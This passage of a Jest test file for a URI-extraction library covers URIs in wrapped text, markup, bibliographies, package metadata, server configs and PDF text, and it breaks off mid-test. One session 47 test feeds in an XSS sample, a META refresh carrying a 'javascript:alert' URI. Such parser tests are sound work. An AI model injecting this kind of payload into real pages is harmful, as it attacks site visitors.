    expect(uris(text)).toEqual(["https://example.org/wiki/Foo_"]);
    expect(uris("my_var = 1\nsee https://x.example/a_b_ ok\n")).toEqual(["https://x.example/a_b_"]);
  });
});

describe("session 44: fuzzy — a name that goes on with a label opened by '_' is no host", () => {
  test("www.xxx._yyy.zzz gives nothing, not http://www.xxx (cmark-gfm's extensions.txt)", () => {
    expect(
      uris("Underscores not allowed in host name www.xxx._yyy.zzz\n", { fuzzy: true }),
    ).toEqual([]);
    expect(uris("see www.example.com. ok\n", { fuzzy: true })).toEqual(["http://www.example.com"]);
  });
});

describe("session 44: a wrapped URI's last piece before '>' is no Supercite citation", () => {
  test.each([
    [
      "<URL:file:/ //a3@O/O=aN/Z96\nb6x> <URL:http://aa/?aa=\na> \n",
      ["file:///a3@O/O=aN/Z96b6x", "http://aa/?aa=a"],
    ],
    ["<URL:News:a\na> <URL:news:WTz@yqtDj\nX>\n", ["News:aa", "news:WTz@yqtDjX"]],
  ])("%j (the planted test's counterexamples)", (text, want) => {
    expect(uris(text, { includeInvalid: true })).toEqual(want);
    expectRecordsAtEverySplit(text);
  });
  test("a citation still is one", () => {
    expect(uris("    JQD> see <https://example.org/a/\n    JQD> b.html> ok\n")).toEqual([
      "https://example.org/a/b.html",
    ]);
  });
});

describe("session 44: the second review's cases", () => {
  test("an '@' before a scheme is a code mark only when the word closes with '@'", () => {
    expect(uris("read users = @news:ro @ftp:rw\n")).toEqual([]);
    expect(uris("@urn:ietf:rfc:2648@ ok\n")).toEqual(["urn:ietf:rfc:2648"]);
  });
  test("fuzzy: a host in markup's braces is a link, a field glued in a URL is not", () => {
    expect(uris("haproxy {1wt.eu}\n", { fuzzy: true })).toEqual(["http://1wt.eu"]);
    expect(uris("uri = f'gs://{source.bucket}/{source.name}'\n", { fuzzy: true })).toEqual([]);
  });
  test("a groff name in a URI the text's parenthesis holds stays groff's", () => {
    expect(uris("(see http://x.example/\\(tiuser/) ok\n")).toEqual(["http://x.example/~user/"]);
  });
});

describe("session 45: groff's named characters that pandoc's man writer puts in a URI", () => {
  test.each([
    ["git+ssh://git\\[at]git.sr.ht/~p/w.git\n", ["git+ssh://git@git.sr.ht/~p/w.git"]],
    ["https://user\\(athost.example/p\n", ["https://user@host.example/p"]],
    ["https://a.example/x\\[ha]y ok\n", ["https://a.example/x^y"]],
  ])("%j: \\[at] is the userinfo's '@', \\[ha] the '^'", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text);
  });
  test("another named character still ends a host", () => {
    expect(uris("http://host.example\\[ti]x/ ok\n")).toEqual(["http://host.example"]);
  });
});

describe("session 45: LaTeX's \\textasciitilde in a URI's path", () => {
  test.each([
    [
      "see http://www.x.edu/\\textasciitilde ab123/teaching/ ok\n",
      ["http://www.x.edu/~ab123/teaching/"],
    ],
    ["see http://www.x.edu/\\textasciitilde{}ab123/ ok\n", ["http://www.x.edu/~ab123/"]],
    ["see http://www.x.edu/\\textasciitilde, ok\n", ["http://www.x.edu/~"]],
    ["http://a.example/x\\textasciitildex/ ok\n", ["http://a.example/x"]],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 45: AsciiDoc's link text after a mailto query, or the URI written again", () => {
  test.each([
    [
      "mailto:join@l.example.org?subject=subscribe[Join]\n",
      ["mailto:join@l.example.org?subject=subscribe"],
    ],
    [
      "mailto:a@b.example?subject=x[mailto:a@b.example?subject=x]\n",
      ["mailto:a@b.example?subject=x", "mailto:a@b.example?subject=x"],
    ],
    [
      "https://x.example/a?q=1[https://x.example/a?q=1] ok\n",
      ["https://x.example/a?q=1", "https://x.example/a?q=1"],
    ],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text);
  });
  test("a header's own brackets stay", () => {
    expect(uris("mailto:l@example.org?subject=[PATCH] ok\n")).toEqual([
      "mailto:l@example.org?subject=[PATCH]",
    ]);
    expect(uris("mailto:l@example.org?subject=Re:%20[PATCH] ok\n")).toEqual([
      "mailto:l@example.org?subject=Re:%20[PATCH]",
    ]);
    expect(uris("https://x.example/a?filter[status]=open ok\n")).toEqual([
      "https://x.example/a?filter[status]=open",
    ]);
  });
});

describe("session 45: a URI cut twice by a fixed width (par, fold) goes on with the next line's first token", () => {
  const A = "https://static.example.io/kestrel-hazel/lumen-fjord/raven-birch/onyx-de";
  const B = "lta/dune-vale/setup_guide?ref=readme&utm_source=json&tab=json&utm_mediu";
  test.each([
    [
      `* Fyi\n${A}\n${B}\nm=readme&page=newsletter[release notes] for more.\n`,
      [`${A}${B}m=readme&page=newsletter`],
    ],
    [`* Fyi\n${A}\n${B}\nm[release notes] for more.\n`, [`${A}${B}m`]],
    [`[url=${A.slice(0, 66)}\n${B}\nm]the notes[/url]\n`, [`${A.slice(0, 66)}${B}m`]],
    [`* Fyi\n${A}\n${B.slice(0, 70)}=\nreadme for more.\n`, [`${A}${B.slice(0, 70)}=readme`]],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text, 7);
  });
  test("a short word of prose after a URI that fills two lines stays prose; so does a soft line break's '='", () => {
    expect(uris(`* Fyi\n${A}\n${B}\nfor more.\n`)).toEqual([`${A}${B}`]);
    const qp = `${"x".repeat(75)}=`;
    expect(uris(`see https://a.example/${qp.slice(22)}\n${qp}\nabc and more\n`)).toEqual([
      `https://a.example/${qp.slice(22)}`,
    ]);
  });
});

describe("session 45: package and system metadata (the metadata hunt)", () => {
  test.each([
    // a desktop entry's list: ";" ends each string (XDG Desktop Entry Specification)
    [
      "X-Frob-Mirrors=https://a.example/x;https://b.example/y;\n",
      ["https://a.example/x", "https://b.example/y"],
    ],
    [
      "X-Docs=https://a.example/docs/;http://b.example/\n",
      ["https://a.example/docs/", "http://b.example/"],
    ],
    // apt's and bzr's transports before "+"
    ["URIs: tor+http://deb.example.onion/debian\n", ["tor+http://deb.example.onion/debian"]],
    [
      "deb mirror+https://mirrors.example.org/list.txt bookworm main\n",
      ["mirror+https://mirrors.example.org/list.txt"],
    ],
    // a preprint's reference in a CRAN description: no XML element (a name starts with a letter)
    ["see Vaswani et al. (2017) <arXiv:1706.03762>.\n", ["arXiv:1706.03762"]],
    // a version-control system's name before its repository's URL
    [
      "VCS:            git:https://src.example.org/rpms/frob#0123abc\n",
      ["https://src.example.org/rpms/frob#0123abc"],
    ],
    ["http:https://a.example/x\n", ["https://a.example/x"]],
    // an option's value ends at its line: pip's requirements.txt
    [
      "--index-url https://artifactory.example-organisation.example.org/api/pypi/pypi-virtual/simple\ndjango-environ\nrequests\n",
      ["https://artifactory.example-organisation.example.org/api/pypi/pypi-virtual/simple"],
    ],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text, 3);
  });
  test("what stays: a path's and a query's ';', an XML element, a label with no authority after it", () => {
    expect(
      uris("https://a.example/p;x=1;y=2 and http://a.example/?u=1;https://b.example/\n"),
    ).toEqual(["https://a.example/p;x=1;y=2", "http://a.example/?u=1;https://b.example/"]);
    expect(uris("<xsl:template match='x'> <D:prop/>\n")).toEqual([]);
    expect(uris('a "proxy:fcgi://" prefix\n')).toEqual(["proxy:fcgi://"]);
  });
});

describe("session 45: bibliographies (the bibliographies hunt)", () => {
  test.each([
    // a DOI broken after its "10." by LaTeX's url.sty, in a PDF's text
    [
      "[Online]. Available: https://doi.org/10.\n1016/j.article.2009.07.096\n[163] M. Garcia\n",
      ["https://doi.org/10.1016/j.article.2009.07.096"],
    ],
    [
      "the Example literature, 2018b. URL info:doi/10.\n5277/index.2001.28.\n",
      ["info:doi/10.5277/index.2001.28"],
    ],
    // a SICI's "<…>" inside a DOI
    [
      "B title. https://doi.org/10.1002/(SICI)1097-4636(199706)35:4<465::AID-JBM6>3.0.CO;2-P\n",
      ["https://doi.org/10.1002/(SICI)1097-4636(199706)35:4<465::AID-JBM6>3.0.CO;2-P"],
    ],
    [
      "\\newblock \\url{https://doi.org/10.1175/1520-0469(1993)050<0948:TOAH>2.0.CO;2}.\n",
      ["https://doi.org/10.1175/1520-0469(1993)050<0948:TOAH>2.0.CO;2"],
    ],
    // TeX's escapes and groups in a BibTeX field or a .bbl
    [
      "  url = {http://www.cs.example.ac.uk/\\~{}abs/cs_v2},\n",
      ["http://www.cs.example.ac.uk/~abs/cs_v2"],
    ],
    ["  url = {http://x.org/{~}user/a},\n", ["http://x.org/~user/a"]],
    ['  url = "http://x.org/data{\\_}set/file",\n', ["http://x.org/data_set/file"]],
    [
      "\\newline\\harvardurl{https://journals.example.edu/dataset{\\_}/files.html{\\#}math-3}\n",
      ["https://journals.example.edu/dataset_/files.html#math-3"],
    ],
    // pandoc's CSL YAML: Markdown's "\_" in a double-quoted string
    [
      '  url: "https://lib.example.fr/stats_view/cs\\\\_/pdf-preprint"\n',
      ["https://lib.example.fr/stats_view/cs_/pdf-preprint"],
    ],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text, 3);
  });
  test("normalized percent-encodes a SICI's brackets; what stays", () => {
    const [f] = extractText(
      "see https://doi.org/10.1002/(SICI)1097-4636(199706)35:4<465::AID-JBM6>3.0.CO;2-P\n",
    );
    expect(f!.normalized).toBe(
      "https://doi.org/10.1002/(SICI)1097-4636(199706)35:4%3C465::AID-JBM6%3E3.0.CO;2-P",
    );
    // no DOI, no SICI: "<" ends the URI; a number after "10." is no registrant's without "/"
    expect(uris("http://a.example/x1<b:c>2 ok\n")).toEqual(["http://a.example/x1"]);
    expect(uris("see https://doi.org/10.\n1234 is a number\n")).toEqual(["https://doi.org/10"]);
    expect(uris("https://x.org/users/{user}/repos ok\n")).toEqual([
      "https://x.org/users/{user}/repos",
    ]);
  });
});

describe("session 45: the reviews of the session's own changes", () => {
  test("a help text's option line with prose before its URI is wrapped as any line", () => {
    const text =
      "  --docs DOCS           Documentation: https://docs.example.org/en/latest/refe\n                        rence/configuration/options/advanced.html#section\n";
    expect(uris(text)).toEqual([
      "https://docs.example.org/en/latest/reference/configuration/options/advanced.html#section",
    ]);
  });
  test("after a chain of cuts, a capitalized word or one of letters before a blank is prose", () => {
    const a = "https://static.example.io/kestrel-hazel/lumen-fjord/raven-birch/onyx-de";
    const b = "lta/dune-vale/setup_guide?ref=readme&utm_source=json&tab=json&utm_mediu";
    for (const w of ["Thanks,", "Regards,", "Please see", "Signed-off-by: A"])
      expect(uris(`* Fyi\n${a}\n${b}\n${w}\n`), w).toEqual([`${a}${b}`]);
  });
  test("a DOI's break is a DOI's URI's; a character reference's ';' splits nothing", () => {
    expect(uris("see https://example.org/list/10.\n2019/12/31 happened\n")).toEqual([
      "https://example.org/list/10",
    ]);
    expect(uris("see https://onlinelibrary.example.com/doi/10.\n1002/anie.2019 ok\n")).toEqual([
      "https://onlinelibrary.example.com/doi/10.1002/anie.2019",
    ]);
    expect(uris("https://a.example/x&amp;https://b.example/ ok\n")).toEqual([
      "https://a.example/x&https://b.example/",
    ]);
  });
  test("a version's or a time's number in angle brackets is a placeholder's; a label of digits a subject's", () => {
    expect(uris("<version:2.0> <time:12.30> <ns1:2>foo</ns1:2>\n")).toEqual([]);
    expect(uris("mailto:dev@x.org?subject=bug[123] ok\n")).toEqual([
      "mailto:dev@x.org?subject=bug[123]",
    ]);
  });
  test("a placeholder's words in angle brackets stay a tag's; a preprint's number does not", () => {
    expect(uris("The format is <ipv6-address:2-octet-number>. <protocol:...>\n")).toEqual([]);
    expect(uris("<arXiv:1706.03762v2>\n")).toEqual(["arXiv:1706.03762v2"]);
  });
  test("html-to-text's '[url]' broken after a '/' goes on to its ']'", () => {
    const text =
      "see [http://images.fb.com/2015/12/21/\nivete-sangalo-launches-360-music-video-on-facebook/]\n";
    expect(uris(text)).toEqual([
      "http://images.fb.com/2015/12/21/ivete-sangalo-launches-360-music-video-on-facebook/",
    ]);
    expectRecordsAtEverySplit(text, 3);
    // (not when no "[" opened it)
    expect(uris("see http://images.fb.com/2015/12/21/\nivete-sangalo/] ok\n")).toEqual([
      "http://images.fb.com/2015/12/21/",
    ]);
  });
});

describe("session 45: url.sty's breaks in a PDF's text after a query's '?' or '&', and a '.' before an extension and more", () => {
  test.each([
    [
      "see http://www.example.com/page?\nid=3&x=4 for more\n",
      ["http://www.example.com/page?id=3&x=4"],
    ],
    ["see http://a.example/x?a=1&\nb=2 ok\n", ["http://a.example/x?a=1&b=2"]],
    [
      "Available from https://data.example.net/api.html/pdf-?research=\n3159&software=pdf_download.\n",
      ["https://data.example.net/api.html/pdf-?research=3159&software=pdf_download"],
    ],
    [
      "see http://www.example.com/index.\nphp?id=3 for more\n",
      ["http://www.example.com/index.php?id=3"],
    ],
    [
      "Available: https://repo.example.de/phys/issue(88)/tools.\nhtml/dataset.html#bio-2\n[2] H. M\n",
      ["https://repo.example.de/phys/issue(88)/tools.html/dataset.html#bio-2"],
    ],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text, 3);
  });
  test("a question's '?' and a next line with no field stay apart", () => {
    expect(uris("Is it at https://x.example/page?\nIt is.\n")).toEqual(["https://x.example/page"]);
    expect(uris("see https://x.example/a?\nthe list\n")).toEqual(["https://x.example/a"]);
    expect(uris("see https://x.example/a&\nb=2 ok\n")).toEqual(["https://x.example/a&"]);
    // after "=": a value and the next field only; quoted-printable's "=3D" and soft breaks not
    expect(uris("see https://a.example/x?research=\nThe result&x=1 ok\n")).toEqual([
      "https://a.example/x?research=",
    ]);
    expect(uris("see https://a.example/x?y=1&z=\n3D2&w=3D3 ok\n")).toEqual([
      "https://a.example/x?y=1&z=",
    ]);
    expect(
      uris(
        "a long line of quoted-printable text that the encoder broke here =\nsee https://a.example/x?q=\n42&r=1 ok\n",
      ),
    ).toEqual(["https://a.example/x?q="]);
  });
});

describe("session 45: a PDF's tilde operator for a home directory's '~'", () => {
  test.each([
    [
      "see http://www.cs.example.edu/∼user/papers/ ok\n",
      ["http://www.cs.example.edu/~user/papers/"],
    ],
    ["see http://www.cs.example.edu/˜user ok\n", ["http://www.cs.example.edu/~user"]],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text);
  });
  test("elsewhere it stays what it is", () => {
    expect(uris("see http://a.example/x∼y ok\n")).toEqual(["http://a.example/x∼y"]);
    expect(uris("see http://a.example/∼ ok\n")).toEqual(["http://a.example/∼"]);
  });
});

describe("session 45: a chain of cuts goes on with a number's last digits (the mail hunt's fold)", () => {
  test("…/img#L4 LF 2", () => {
    const a = "https://en.wikipedia.org/tk057/config/project/file_name.tar.gz/Special/t";
    const b = "opic/faq/blob/img/branches/docs/src/index/slides/v2/docs/download/img#L4";
    const text = `> > From the archive: \n${a}\n${b}\n2\n> >\n`;
    expect(uris(text)).toEqual([`${a}${b}2`]);
    expectRecordsAtEverySplit(text, 5);
  });
});

describe("session 46: a shell variable without braces is a template's placeholder", () => {
  test.each([
    ['source=("https://example.org/dl/$pkgname-$pkgver.tar.gz")\n', ["https://example.org/dl/"]],
    [
      "url=https://example.org/download/v$pkgver/y_$" + "{pkgver}_x.tar.gz\n",
      ["https://example.org/download/"],
    ],
    [
      "RUN curl -L https://github.com/a/b/releases/download/v$VERSION/b-$VERSION.tgz | tar xz\n",
      ["https://github.com/a/b/releases/download/"],
    ],
    ["'https://x.example/f_$name.zip'\n", ["https://x.example/"]],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text);
  });
  test("OData's and Azure's $ names, a one- or two-letter name, a '$' inside a word and a whole segment's stay", () => {
    for (const u of [
      "https://services.odata.org/V4/Northwind/Northwind.svc/$metadata",
      "https://services.odata.org/V4/Northwind/Northwind.svc/Products?$filter=Price%20gt%2020&$top=5",
      "https://x.blob.core.windows.net/$web/index.html",
      "https://example.com/a$b",
      "https://example.com/v/$ab",
      "https://docs.scala-lang.org/api/List$.html",
      "https://x.example/dev$abc/",
      // a whole segment's "$name" is a page's name as often as a variable (the review)
      "https://docs.angularjs.org/api/ng/service/$http",
      "http://docs.mongodb.org/manual/reference/operator/aggregation/$lookup/",
      "https://www.scala-lang.org/api/current/scala/collection/immutable/$colon$colon.html",
      "https://perldoc.perl.org/variables/$ARGV",
      "https://bugs.debian.org/$bug",
      "file:///disk$user/my/notes/note12345.txt",
      "https://example.com/a//dev$foo/b",
      "https://docs.oracle.com/x/V$SESSION.html",
    ]) {
      expect(uris(`see ${u} ok\n`)).toEqual([u]);
    }
  });
});

describe("session 46: an RPM macro without braces is a placeholder", () => {
  test.each([
    ["Source0: https://example.org/dl/%name-%version.tar.bz2\n", ["https://example.org/dl/"]],
    [
      "Source0: https://pypi.io/packages/source/f/%pypi_name/%pypi_name-%version.tar.gz\n",
      ["https://pypi.io/packages/source/f/"],
    ],
    ["URL: https://example.org/%_vendor/x\n", ["https://example.org/"]],
    [
      "Source1: https://example.org/files/foo-1.0.tar.gz#/%{name}-%{version}.tar.gz\n",
      ["https://example.org/files/foo-1.0.tar.gz"],
    ],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text);
  });
  test("another name after '%' is no macro: the URI stays whole", () => {
    expect(uris("see https://example.com/a%20b/%namex ok\n", { includeInvalid: true })).toEqual([
      "https://example.com/a%20b/%namex",
    ]);
  });
});

describe("session 46: web servers' variables after a host, and for the scheme or the host", () => {
  test.each([
    // certbot's redirect (nginx): a variable for the host, then one for the path
    ["return 301 https://$host$request_uri;\n", []],
    ["return 301 $scheme://$host$request_uri;\n", []],
    ["proxy_pass $scheme://backend;\n", []],
    ["return 301 https://example.com$request_uri;\n", ["https://example.com"]],
    ["return 301 https://[2001:db8::1]$request_uri;\n", ["https://[2001:db8::1]"]],
    ["RewriteRule ^(.*)$ https://www.example.com$1 [R=301,L]\n", ["https://www.example.com"]],
    // HAProxy's sample fetch
    [
      "http-request redirect location https://www.example.com%[capture.req.uri]\n",
      ["https://www.example.com"],
    ],
    ["http-request redirect location https://example.com/%[path]\n", ["https://example.com/"]],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text);
  });
  test("a userinfo's '$' and a registered scheme after '$' stay", () => {
    expect(uris("see http://user$name@host.example/ and ftp://$a@ftp.example.org/\n")).toEqual([
      "http://user$name@host.example/",
      "ftp://$a@ftp.example.org/",
    ]);
    expect(uris("$http://twitter.com\n")).toEqual(["http://twitter.com"]);
  });
});

describe("session 46: curl's --trace-ascii rows cut at 64 bytes", () => {
  const row = (offset: number, data: string) => `${offset.toString(16).padStart(4, "0")}: ${data}`;
  test("a bare URI and one in <…> go on past the next row's offset", () => {
    const loc = "Location: https://example.com/docs/a/v1/aaaaaaaaaaaaaaaaaaaaaaaa";
    const link = "Link: <ws://xn--bcher-kva.example/~user/data;x=1?id=hello%20worl";
    expect(loc.length).toBe(64);
    expect(link.length).toBe(64);
    const text =
      "<= Recv header, 94 bytes (0x5e)\n" +
      `${row(0, loc)}\n${row(0x40, "bbbb/index.html")}\n` +
      `${row(0, link)}\n${row(0x40, 'd&id=2>; rel="preload"')}\n`;
    expect(uris(text)).toEqual([
      "https://example.com/docs/a/v1/aaaaaaaaaaaaaaaaaaaaaaaabbbb/index.html",
      "ws://xn--bcher-kva.example/~user/data;x=1?id=hello%20world&id=2",
    ]);
    expectRecordsAtEverySplit(text, 7);
  });
  test("a shorter row, or a next row of another offset, ends the URI", () => {
    expect(uris(`${row(0, "Location: https://example.com/a")}\n${row(0x40, "x")}\n`)).toEqual([
      "https://example.com/a",
    ]);
    const loc = "Location: https://example.com/docs/a/v1/aaaaaaaaaaaaaaaaaaaaaaaa";
    expect(uris(`${row(0, loc)}\n${row(0x80, "bbbb")}\n`)).toEqual([
      "https://example.com/docs/a/v1/aaaaaaaaaaaaaaaaaaaaaaaa",
    ]);
  });
});

describe("session 46: the chat hunt", () => {
  test.each([
    // Reddit's API: the comment's Markdown escapes inside a JSON string
    [
      '{"body": "see https://e.org/a\\\\_b and https://e.org/x\\\\*y ok"}\n',
      ["https://e.org/a_b", "https://e.org/x*y"],
    ],
    // the Matrix specification's URIs
    [
      "link matrix:r/rust:example.org, thanks; matrix:u/alice:example.org?action=chat\n",
      ["matrix:r/rust:example.org", "matrix:u/alice:example.org?action=chat"],
    ],
    // Mastodon's hidden "https://www." span
    [
      '<a href="https://www.e.org/a"><span class="invisible">https://www.</span><span class="">e.org/a</span></a>\n',
      ["https://www.e.org/a"],
    ],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text, 5);
  });
});

describe("session 46: the serializers hunt (LDIF's folds, a PO file's strings)", () => {
  test.each([
    // OpenLDAP's ldapsearch: a fold inside the URI, after a hyphen and before a "#"
    [
      "dn: cn=u4,dc=example,dc=com\nobjectClass: inetOrgPerson\nlabeledURI: http://192.0.2.17:8443/archive/issues/download/reports/wiki/a-very\n -long-segment-name/img/pub/release-notes?q=caf%C3%A9&ref=a+b&pwd=TWxxN1HlPntt\n trUEwSzH Home page\n\n",
      [
        "http://192.0.2.17:8443/archive/issues/download/reports/wiki/a-very-long-segment-name/img/pub/release-notes?q=caf%C3%A9&ref=a+b&pwd=TWxxN1HlPntttrUEwSzH",
      ],
    ],
    [
      "dn: cn=u5,dc=example,dc=com\ndescription: Docs at mailto:list-request@lists.example.org?subject=unsubscribe\n &body=remove%20me (mirror)\n",
      ["mailto:list-request@lists.example.org?subject=unsubscribe&body=remove%20me"],
    ],
    // msgcat's strings: a URI that opens a string after a line broken after a blank, and
    // one broken right after its scheme's ":"
    [
      'msgid ""\n"For more information its web page is at "\n"http://192.0.2.17:8443/docs/wiki/a-very-long-"\n"segment-name/index.html and more."\n',
      ["http://192.0.2.17:8443/docs/wiki/a-very-long-segment-name/index.html"],
    ],
    [
      'msgid "see the page at "\n"http://docs.example.net/join/team/api."\n',
      ["http://docs.example.net/join/team/api"],
    ],
    ['msgid ""\n"Our wiki moved, see tel:"\n"+1-613-555-4718 and more"\n', ["tel:+1-613-555-4718"]],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text, 7);
  });
  test("outside an LDIF entry a line that opens with a blank is no fold; a DOCTYPE's quotes stay", () => {
    expect(uris("description: see https://example.com/a\n more text here\n")).toEqual([
      "https://example.com/a",
    ]);
    expect(
      extractText(
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN"\n"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n',
      ).map((f) => f.delimiter),
    ).toEqual(["quote"]);
  });
});

describe("session 46: the security tools', notebooks' and serializers' hunts", () => {
  test.each([
    // a table's box-drawing border glued to the URI
    ["│lib1│https://a.example/x/y│\n", ["https://a.example/x/y"]],
    // openssl's next field after a URI that ends with "-"
    [
      "                  URI:https://a.example/x-\n            Authority Information Access: \n",
      ["https://a.example/x-"],
    ],
    // Pygments' LaTeX escapes (nbconvert's \PY…, Sphinx's \PYG…)
    [
      "\\PY{l+s+s2}{s3://my\\PYZhy{}bucket/raw\\PYZus{}data/x\\PYZpc{}20y.parquet}\n",
      ["s3://my-bucket/raw_data/x%20y.parquet"],
    ],
    [
      "\\PYG{l+s+s2}{\\PYGZdq{}https://example.com/a\\PYGZhy{}b?x=1\\PYGZam{}y=2\\PYGZsh{}frag\\PYGZdq{}}\n",
      ["https://example.com/a-b?x=1&y=2#frag"],
    ],
    // … but "<", ">" and '"' end it
    ["\\PYG{c+c1}{\\PYGZsh{} see \\PYGZlt{}https://e.org/a\\PYGZgt{}}\n", ["https://e.org/a"]],
    ["\\PY{l+s+s2}{https://e.org/\\PYZdq{}x}\n", ["https://e.org/"]],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text, 5);
  });
  test("an iCalendar line folded at 75 characters of other scripts (npm's ics), not 75 octets", () => {
    const first = "DESCRIPTION:Join the meeting: https://bücher.example.de/東京都/Main_P";
    const pad = "x".repeat(75 - [...first].length);
    const text = `BEGIN:VEVENT\r\nDESCRIPTION:${pad}${first.slice(12)}\r\n\tage/files/files for notes\r\nEND:VEVENT\r\n`;
    expect([...text.split("\r\n")[1]!].length).toBe(75);
    expect(uris(text)).toEqual(["https://bücher.example.de/東京都/Main_Page/files/files"]);
  });
});

describe("session 46: a string continued past a placeholder", () => {
  test("the next string's URI is read on its own (a PKGBUILD's source array)", () => {
    const text =
      'source=("http://mirror.example.net/pub/bar/src/$pkgname-$pkgver.tar.gz"\n' +
      '        "$pkgname.service::https://bitbucket.org/gnome/moz-fetch/raw/main/contrib/frob.service"\n' +
      '        "https://ftp.gnu.org/gnu/tokio-util/v$pkgver/$pkgname-$pkgver-x86_64.tar.zst")\n';
    expect(uris(text)).toEqual([
      "http://mirror.example.net/pub/bar/src/",
      "https://bitbucket.org/gnome/moz-fetch/raw/main/contrib/frob.service",
      "https://ftp.gnu.org/gnu/tokio-util/",
    ]);
    expectRecordsAtEverySplit(text, 7);
  });
});

describe("session 46: a YAML double-quoted scalar folded on a middle line", () => {
  test.each([
    [
      '    summary: "See\n      file:///home/user/calendar/notes.\\\n      txt for the details — end of\n      note."\n',
      ["file:///home/user/calendar/notes.txt"],
    ],
    [
      '    "summary": "Our wiki moved, see\n      http://docs.example.net/naïve-rés\\\n      umé/ελληνικά/join/team/api and\n      reply — end of note."\n',
      ["http://docs.example.net/naïve-résumé/ελληνικά/join/team/api"],
    ],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text, 5);
  });
});

describe("session 46: a '>' that closes a wrapper opened lines above is no Supercite citation", () => {
  test("'a> <URL:…' after '<news:a' LF 'a' (the planted test's counterexample at 12,000 runs)", () => {
    const text = "\n<news:a\na\na> <URL:https:/\n/ñandú.1-VD.пример.テスト/Ys0qN#d_G%EC%96%B\n4>";
    expect(uris(text)).toEqual(["news:aaa", "https://ñandú.1-VD.пример.テスト/Ys0qN#d_G%EC%96%B4"]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 47: a candidate whose host or port took in the text after it hides no URI there", () => {
  test.each([
    // bluemonday's TestXSS: "http://;URL=javascript:alert" has the port "alert"
    [
      `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
      ["javascript:alert('XSS')"],
    ],
    // MediaWiki's parser fuzz: "===r:::https:" is no host and port
    ["http://===r:::https://b", ["https://b"]],
    // the search looks inside once: a candidate found there is not looked into again (each
    // byte is searched twice at most: linear time), so "https://y:ftp:" hides the ftp: URI
    ["see http://x:https://y:ftp://b.example/ ok", []],
    ["see http://x:ftp://b.example/ ok", ["ftp://b.example/"]],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text);
  });

  test("with includeInvalid the candidate is reported too, before what it hid", () => {
    const found = extractText("a http://;URL=javascript:alert(1) b", { includeInvalid: true });
    expect(found.map((f) => [f.uri, f.valid])).toEqual([
      ["http://;URL=javascript:alert", false],
      ["javascript:alert(1)", true],
    ]);
  });

  test.each([
    // a valid URI's text is not looked into
    ["http://a.example/?u=http://b.example/", ["http://a.example/?u=http://b.example/"]],
    // nor a not-valid one whose fault is not its authority (RFC 2397: ";utf8" is no
    // parameter): the SVG's namespace is the data's
    ["data:image/svg+xml;utf8,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3C/svg%3E", []],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
  });
});

describe("session 47: defanged hosts, schemes and addresses (ioc-extractor's refang tests)", () => {
  test.each([
    ["hxxps://google[.)com", []],
    ["https://google(.]com/x", []],
    ["http://example{.}com", []],
    ["http://example{dot}com/a", []],
    ["h**ps://google.com", []],
    ["h**ps://google[.)com", []],
    // a footnote's and a placeholder's braces stay the text's
    [
      "see http://example.org{1} and http://a.example/{x}",
      ["http://example.org", "http://a.example/{x}"],
    ],
    // Markdown's strong emphasis: no letter before the "*"
    [
      "**https://bold.example/** and *http://em.example/*",
      ["https://bold.example/", "http://em.example/"],
    ],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text);
  });

  test.each([
    ["test[@]example.com", []],
    ["test(@)example.com", []],
    ["test{@}example.com", []],
    ["write to {@}example.com", ["http://example.com"]],
  ])("fuzzy: %j", (text, want) => {
    expect(uris(text, { fuzzy: true })).toEqual(want);
  });
});

describe("session 47: URLs in the text of PDFs (the PDF hunt: Chromium, LaTeX, groff; pdftotext, mutool, pdfminer, pypdf, pdf.js)", () => {
  test.each([
    // a browser breaks a long URL after "-" and after "?" (UAX #14): a hard wrap after a
    // hyphen's break is read on, as one before it is
    [
      "A preprint (https://manual-\nnetwork.co.uk/release-423/export-analysis-model-zq018?\nprivacy_statistics=true&edge=media-model-\nstandard&user=edge&training_figure=article) describes the method.\n",
      [
        "https://manual-network.co.uk/release-423/export-analysis-model-zq018?privacy_statistics=true&edge=media-model-standard&user=edge&training_figure=article",
      ],
    ],
    // a URL across a page: the form feed opens the next line
    [
      "A preprint (http://www.archive-zq012.net:9090/setup%20data/index/~image/image-\n\fnotes-cloud/article-supplement-draft#sec-8.4) describes the method.\n",
      [
        "http://www.archive-zq012.net:9090/setup%20data/index/~image/image-notes-cloud/article-supplement-draft#sec-8.4",
      ],
    ],
    // the Latin ligatures U+FB00–FB06 are their letters: in a host, a path, a URN, and
    // opening a hyphen break's continuation
    [
      "The code is public (see https://www.speciﬁcation.release-library.ac.uk/~science/zq004-service).\n",
      ["https://www.specification.release-library.ac.uk/~science/zq004-service"],
    ],
    [
